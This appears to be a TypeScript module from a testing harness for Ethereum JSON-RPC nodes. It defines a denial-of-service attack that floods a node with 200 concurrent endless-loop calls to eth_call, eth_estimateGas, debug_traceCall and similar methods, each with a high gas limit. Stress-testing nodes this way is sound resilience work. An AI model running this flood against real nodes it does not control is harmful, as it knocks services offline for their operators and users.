import { callOf, endless } from '#qord/testing/evm/evm-loops.ts';
import { type Attack, sized } from '../attack.ts';

/** Methods that execute code for a client, with parameters for this gas limit. */
const requests: Readonly<Record<string, (gas: number) => readonly unknown[]>> = {
  eth_call: (gas) => callOf(endless, { gas }),
  eth_createAccessList: (gas) => callOf(endless, { gas }),
  eth_estimateGas: (gas) => callOf(endless, { gas }),
  eth_simulateV1: (gas) => {
    const [call, block, stateOverrides] = callOf(endless, { gas });
    return [{ blockStateCalls: [{ stateOverrides, calls: [call] }] }, block];
  },
  debug_traceCall: (gas) => {
    const [call, block, stateOverrides] = callOf(endless, { gas });
    return [call, block, { tracer: 'callTracer', stateOverrides }];
  },
};

/** Endless executions of one method, 200 at once. */
export function endlessCalls(method: string): Attack {
  return {
    summary: `200 endless ${method} at once, again and again`,
    attack: (context) => {
      const loops = sized(context, 200, 40);
      const params = requests[method]?.(sized(context, 25_000_000, 1_000_000)) ?? [];
      const ask = () => context.clients.call(context.urls.http ?? '', method, ...params);
      if (context.scale === 'full') return context.clients.flood(loops, ask);
      return Promise.all(Array.from({ length: loops }, ask)).then(() => undefined);
    },
  };
}
